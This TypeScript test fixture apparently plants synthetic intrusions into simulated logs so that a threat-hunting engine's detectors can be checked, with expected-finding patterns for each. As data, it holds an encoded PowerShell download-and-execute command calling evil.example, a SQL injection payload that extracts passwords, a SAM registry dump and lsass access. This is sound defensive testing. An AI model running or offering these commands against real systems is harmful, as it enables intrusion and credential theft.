import type { Seen } from '../../engine/hunt/models/types.js';
import { seeded } from '../../engine/hunt/stats.js';
import { machineNames } from '../../engine/hunt/train/names.js';
import { addressOf, DAY, START, seen, userOf } from './month.js';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
/** Thursday of the fourth week. */
export const PLANTED_DAY = 24;
const at = (hour: number, minute = 0) => START + PLANTED_DAY * DAY + hour * HOUR + minute * MINUTE;
const many = (count: number, make: (i: number) => Seen): Seen[] => Array.from({ length: count }, (_, i) => make(i));

export interface Planted {
  /** The entity that the model must name, and what its words must say. */
  entity: string;
  words: RegExp;
  events: () => Seen[];
}

/** One intrusion for each model, of the kind it is made for, into the ordinary month. */
export const PLANTED: Record<string, Planted> = {
  'admin-connections': {
    entity: addressOf(40),
    words: /opened SMB, WinRM connections to \d+ hosts it never administered/,
    events: () =>
      many(14, (i) =>
        seen(`p${i}`, at(14, i * 7), {
          'source.ip': addressOf(40),
          'destination.ip': `10.2.0.${i + 20}`,
          'destination.port': i % 2 ? 5985 : 445,
        }),
      ),
  },
  beacons: {
    entity: addressOf(41),
    words:
      /calls 198\.51\.100\.66 every (4\.\d|5(\.\d)?) min ± \d+ s for (2\.9|3(\.\d)?) h, 36 times, 412 bytes each; no other host does/,
    events: () => {
      const random = seeded(9);
      return many(36, (i) =>
        seen(`p${i}`, at(9, i * 5) + random() * 60_000, {
          'source.ip': addressOf(41),
          'destination.ip': '198.51.100.66',
          'destination.port': 443,
          'source.bytes': 412,
        }),
      );
    },
  },
  'brute-force': {
    entity: userOf(42),
    words: /60 failed sign-ins of user42 within \d+ s from 198\.51\.100\.7.*then it succeeded/,
    events: () =>
      many(61, (i) =>
        seen(`p${i}`, at(3) + i * 2000, {
          'event.category': 'authentication',
          'event.outcome': i === 60 ? 'success' : 'failure',
          'user.name': userOf(42),
          'source.ip': '198.51.100.7',
        }),
      ),
  },
  'bulk-reads': {
    entity: userOf(21),
    words: /user21 read 9\d\d things in a day; usually \d/,
    events: () =>
      many(900, (i) =>
        seen(`p${i}`, at(18) + i * 4000, {
          'cloud.provider': 'aws',
          'cloud.region': 'eu-west-1',
          'user.name': userOf(21),
          'event.action': 'GetObject',
          'event.outcome': 'success',
          'file.path': `plans/${i}.pdf`,
        }),
      ),
  },
  'cloud-principals': {
    entity: userOf(11),
    words: /user11, within six hours: .*(second factor was removed|rights were widened|logging was changed)/,
    events: () =>
      [
        'ListUsers',
        'ListRoles',
        'ListPolicies',
        'GetAccountSummary',
        'ListKeys',
        'DescribeTrails',
        'CreateAccessKey',
        'AttachUserPolicy',
        'StopLogging',
        'DeactivateMFADevice',
      ].map((action, i) =>
        seen(`p${i}`, at(11, i), {
          'cloud.provider': 'aws',
          'cloud.region': 'us-east-2',
          'user.name': userOf(11),
          'event.action': action,
          'event.outcome': 'success',
        }),
      ),
  },
  'command-lines': {
    entity: 'pc-43',
    words: /powershell\.exe ran with a command line unlike its \d+ others .* with encoded parts/,
    events: () => [
      seen('p0', at(15), {
        'host.name': 'pc-43',
        'user.name': userOf(43),
        'process.name': 'powershell.exe',
        'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'process.parent.executable': 'C:\\Windows\\explorer.exe',
        'process.command_line': `powershell.exe -nop -w hidden -enc ${Buffer.from('iex (new-object net.webclient).downloadstring("https://evil.example/a"); '.repeat(6), 'utf16le').toString('base64')}`,
      }),
    ],
  },
  'dns-tunnel': {
    entity: 'tunnel-site.example',
    words: /\d{3,} different names below tunnel-site\.example in a day .* never connected to/,
    events: () => {
      const random = seeded(4);
      const label = () =>
        Array.from({ length: 44 }, () => '0123456789abcdefghijklmnopqrstuv'[Math.floor(random() * 32)]).join('');
      return many(600, (i) =>
        seen(`p${i}`, at(10) + i * 20_000, {
          'source.ip': addressOf(44),
          'dns.question.name': `${label()}.t.tunnel-site.example`,
          'dns.question.type': 'TXT',
        }),
      );
    },
  },
  'dormant-accounts': {
    entity: 'old-account',
    words: /old-account signed in after 85 days without .* where it never came from/,
    events: () => [
      seen('p-1', at(9) - 85 * DAY, {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': 'old-account',
        'source.ip': '10.1.0.9',
      }),
      seen('p0', at(9), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': 'old-account',
        'source.ip': '198.51.100.8',
      }),
    ],
  },
  exfiltration: {
    entity: addressOf(45),
    words: /sent 9 GB to the Internet in a day; usually .* Most went to files\.example/,
    events: () =>
      many(60, (i) =>
        seen(`p${i}`, at(20, i), {
          'source.ip': addressOf(45),
          'destination.domain': 'files.example',
          'destination.ip': '198.51.100.9',
          'source.bytes': 150e6,
        }),
      ),
  },
  'generated-names': {
    entity: addressOf(46),
    words: /asked for \d+ names that look made by machine, \d+ \(\d+ %\) of which do not exist/,
    events: () =>
      machineNames('letters', 60, 5).map((name, i) =>
        seen(`p${i}`, at(4, i), {
          'source.ip': addressOf(46),
          'dns.question.name': name,
          'dns.response_code': i === 50 ? 'NOERROR' : 'NXDOMAIN',
        }),
      ),
  },
  'impossible-travel': {
    entity: userOf(47),
    words:
      /user47 signed in from DE, then .* later from BR, \d+ km away: \d+ km\/h, with a country and device never seen before/,
    events: () => [
      seen('p0', at(12), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': userOf(47),
        'source.ip': addressOf(47),
        'source.geo.country_iso_code': 'DE',
        'source.geo.location': { lat: 52.5, lon: 13.4 },
        'device.id': 'd47-0',
      }),
      seen('p1', at(12, 40), {
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': userOf(47),
        'source.ip': '198.51.100.77',
        'source.geo.country_iso_code': 'BR',
        'source.geo.location': { lat: -23.5, lon: -46.6 },
        'device.id': 'phone',
      }),
    ],
  },
  'long-connections': {
    entity: addressOf(48),
    words: /kept a connection to 198\.51\.100\.48 \(port 8443\) open for 11 h/,
    events: () => [
      seen('p0', at(21), {
        'source.ip': addressOf(48),
        'destination.ip': '198.51.100.48',
        'destination.port': 8443,
        'source.bytes': 5e6,
        'event.duration': 11 * 3600e9,
      }),
    ],
  },
  'new-access': {
    entity: userOf(49),
    words: /user49 used \d+ hosts for the first time/,
    events: () =>
      many(15, (i) =>
        seen(`p${i}`, at(13, i * 2), {
          'event.category': 'authentication',
          'event.outcome': 'success',
          'user.name': userOf(49),
          'source.ip': addressOf(49),
          'host.name': `vault-${i}`,
        }),
      ),
  },
  'odd-hours': {
    entity: userOf(50),
    words: /user50 signed in at Thu 03:10 UTC .* with a new device/,
    events: () =>
      many(3, (i) =>
        seen(`p${i}`, at(3, 10 + i * 5), {
          'event.category': 'authentication',
          'event.outcome': 'success',
          'user.name': userOf(50),
          'source.ip': addressOf(50),
          'source.geo.country_iso_code': 'DE',
          'device.id': 'stranger',
        }),
      ),
  },
  'password-spray': {
    entity: '198.51.100.5',
    words: /198\.51\.100\.5 failed to sign in as \d+ users, \d+ of whom never came from there .* it got in as user7\b/,
    events: () =>
      many(60, (i) =>
        seen(`p${i}`, at(2, i), {
          'event.category': 'authentication',
          'event.outcome': i === 59 ? 'success' : 'failure',
          'user.name': i === 59 ? userOf(7) : userOf(i),
          'source.ip': '198.51.100.5',
        }),
      ),
  },
  'rare-fingerprints': {
    entity: addressOf(54),
    words: /is the only one of \d+ hosts with the client 9f0aa1, and uses it only for quiet-place\.example, 9 times/,
    events: () =>
      many(9, (i) =>
        seen(`p${i}`, at(8 + i), {
          'source.ip': addressOf(54),
          'destination.domain': 'quiet-place.example',
          'tls.client.ja3': '9f0aa1',
          'source.bytes': 900,
        }),
      ),
  },
  'rare-processes': {
    entity: 'pc-51',
    words: /winword\.exe started powershell\.exe on pc-51, never before in \d+ days on \d+ hosts/,
    events: () => [
      seen('p0', at(10), {
        'host.name': 'pc-51',
        'user.name': userOf(51),
        'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'process.name': 'powershell.exe',
        'process.parent.executable': 'C:\\Program Files\\Office\\winword.exe',
        'process.command_line': 'powershell.exe -File a.ps1',
      }),
    ],
  },
  scans: {
    entity: addressOf(52),
    words: /tried 200 hosts on 1 port \(445\) of the inner network within 2\d min/,
    events: () =>
      many(200, (i) =>
        seen(`p${i}`, at(16) + i * 7000, {
          'source.ip': addressOf(52),
          'destination.ip': `10.3.0.${i + 1}`,
          'destination.port': 445,
          'event.outcome': i % 3 ? 'failure' : 'success',
        }),
      ),
  },
  'unusual-days': {
    entity: userOf(53),
    words: /The day of user53 is unlike \d+ days of \d+ users: .*(hosts|addresses|programs|night|failures)/,
    events: () =>
      many(90, (i) =>
        seen(`p${i}`, at(1) + i * 60_000, {
          'event.category': i % 3 ? 'iam' : 'authentication',
          'event.outcome': i % 4 ? 'success' : 'failure',
          'user.name': userOf(53),
          'host.name': `srv-x${i % 40}`,
          'source.ip': `198.51.100.${i % 30}`,
          'process.name': `p${i % 20}`,
        }),
      ),
  },
  'web-attacks': {
    entity: '198.51.100.200',
    words: /198\.51\.100\.200 sent 12 requests: 12 requests with sql injection .* answered with success/,
    events: () =>
      many(12, (i) =>
        seen(`p${i}`, at(18, i), {
          'source.ip': '198.51.100.200',
          'destination.domain': 'shop.example',
          'url.original': `/item?id=${i}%27%20UNION%20SELECT%20name%2Cpass%20FROM%20users--`,
          'http.response.status_code': i === 5 ? 200 : 500,
        }),
      ),
  },
  'api-abuse': {
    entity: '198.51.100.70',
    words:
      /198\.51\.100\.70.* asked portal\.example\/api\/orders\/\* for 2\d\d different things in an hour, (9\d|100) % of them one after the other/,
    events: () =>
      many(240, (i) =>
        seen(`p${i}`, at(15) + i * 9000, {
          'source.ip': '198.51.100.70',
          'destination.domain': 'portal.example',
          'url.original': `/api/orders/${4000 + i}`,
          'http.response.status_code': 200,
        }),
      ),
  },
  'error-bursts': {
    entity: '198.51.100.71',
    words:
      /portal\.example answered 9\d times with a server error in an hour .* usually \d+\. \d+ % of them went to 198\.51\.100\.71/,
    events: () =>
      many(90, (i) =>
        seen(`p${i}`, at(20) + i * 30_000, {
          'source.ip': '198.51.100.71',
          'destination.domain': 'portal.example',
          'url.original': `/api/report?format=${i}`,
          'http.response.status_code': 500,
        }),
      ),
  },
  'first-times': {
    entity: userOf(55),
    words: /user55 used the country br, the network 9\d\d, the application .* for the first time within six hours/,
    events: () =>
      many(2, (i) =>
        seen(`p${i}`, at(11, i * 9), {
          'event.category': 'authentication',
          'event.outcome': 'success',
          'user.name': userOf(55),
          'source.ip': '198.51.100.55',
          'source.geo.country_iso_code': 'BR',
          'source.as.number': 901,
          'service.name': i ? 'vault' : 'payroll',
          'device.id': 'stranger',
        }),
      ),
  },
  'peer-groups': {
    entity: userOf(56),
    words:
      /user56 of team-2 used 5 things for the first time that none of 20 colleagues in team-2 use and other departments do: app-4-0/,
    events: () =>
      many(5, (i) =>
        seen(`p${i}`, at(14, i * 11), {
          'user.name': userOf(56),
          'user.group.name': 'team-2',
          'service.name': `app-4-${i}`,
        }),
      ),
  },
  'privilege-rise': {
    entity: 'helper',
    words: /helper: was put into domain admins, by user57, who never did that, hours after it was made/i,
    events: () => [
      seen('p0', at(22), {
        'event.action': 'user-created',
        'event.category': 'iam',
        'user.name': userOf(57),
        'user.target.name': 'helper',
      }),
      seen('p1', at(22, 4), {
        'event.action': 'group-member-added',
        'event.category': 'iam',
        'user.name': userOf(57),
        'user.target.name': 'Domain Admins',
        'group.member': 'CN=helper,CN=Users,DC=acme,DC=example',
      }),
    ],
  },
  'process-access': {
    entity: 'pc-58',
    words: /\\tmp\.exe opened lsass\.exe with the rights 0x1fffff \(reads its memory\) on pc-58, 2 times; never before/,
    events: () =>
      many(2, (i) =>
        seen(`p${i}`, at(17, i), {
          'host.name': 'pc-58',
          'user.name': userOf(58),
          'event.action': 'process-accessed',
          'process.executable': 'C:\\Users\\user58\\AppData\\Local\\Temp\\tmp.exe',
          'process.target.executable': 'C:\\Windows\\System32\\lsass.exe',
          'process.granted_access': '0x1FFFFF',
        }),
      ),
  },
  'rare-autostarts': {
    entity: 'pc-59',
    words: /The service .*\bon pc-59 only, never before in 2\d days on \d+ hosts; it runs %COMSPEC%/i,
    events: () => [
      seen('p0', at(16), {
        'host.name': 'pc-59',
        'event.action': 'service-installed',
        'service.name': 'BTOBTO',
        'file.path': '%COMSPEC% /C powershell.exe -nop -w hidden -c a',
      }),
    ],
  },
  'rare-destinations': {
    entity: addressOf(60),
    words:
      /went to 198\.51\.100\.60 9 times, which none of \d+ hosts ever did: it has no name, on port 4444, from update\.exe, in 5 different hours/,
    events: () =>
      many(9, (i) =>
        seen(`p${i}`, at(10, i * 31), {
          'source.ip': addressOf(60),
          'destination.ip': '198.51.100.60',
          'destination.port': 4444,
          'process.executable': 'C:\\Users\\Public\\update.exe',
        }),
      ),
  },
  sequences: {
    entity: 'pc-61',
    words:
      /On pc-61, within 2\d h, [45] tactics in steps .*discovery\), .*credential-access\), .*persistence\).*collection\)/,
    events: () => {
      const step = (i: number, ago: number, program: string, line: string) =>
        seen(`p${i}`, at(18) - ago * HOUR, {
          'host.name': 'pc-61',
          'user.name': userOf(61),
          'event.action': 'process-created',
          'process.name': program,
          'process.executable': `C:\\Windows\\System32\\${program}`,
          'process.parent.executable': 'C:\\Windows\\explorer.exe',
          'process.command_line': line,
        });
      return [
        step(0, 26, 'nltest.exe', 'nltest /domain_trusts'),
        step(1, 20, 'reg.exe', 'reg save HKLM\\SAM sam.hiv'),
        step(2, 9, 'schtasks.exe', 'schtasks /create /tn x /tr y.exe /sc daily'),
        step(3, 1, '7z.exe', '7z a out.7z C:\\Shares'),
      ];
    },
  },
  'service-accounts': {
    entity: 'svc-3',
    words:
      /svc-3 signed in by remote desktop on srv-9 from 10\.1\.0\.72, where it never came from; in 24 days it signed in as a service 9\d times .* never by hand/,
    events: () => [
      seen('p0', at(11), {
        'event.action': 'logged-in',
        'event.category': 'authentication',
        'event.outcome': 'success',
        'user.name': 'svc-3',
        'host.name': 'srv-9',
        'source.ip': '10.1.0.72',
        'winlog.logon.type': '10',
      }),
    ],
  },
  'unusual-hosts': {
    entity: 'pc-62',
    words: /The day of pc-62 is unlike \d+ days of \d+ hosts: .*(programs|starts|users|night|failures|inside)/,
    events: () =>
      many(160, (i) =>
        seen(`p${i}`, at(1) + i * 60_000, {
          'host.name': 'pc-62',
          'user.name': userOf(i % 25),
          'event.action': i % 9 === 0 ? 'service-installed' : 'process-created',
          'event.outcome': i % 3 ? 'success' : 'failure',
          'process.name': `t${i % 40}.exe`,
          'process.executable': `C:\\Windows\\Temp\\t${i % 40}.exe`,
          'process.parent.executable': 'C:\\Windows\\explorer.exe',
          'destination.ip': `10.4.0.${i % 60}`,
          ...(i % 4 ? {} : { 'powershell.file.script_block_text': 'whoami' }),
        }),
      ),
  },
};
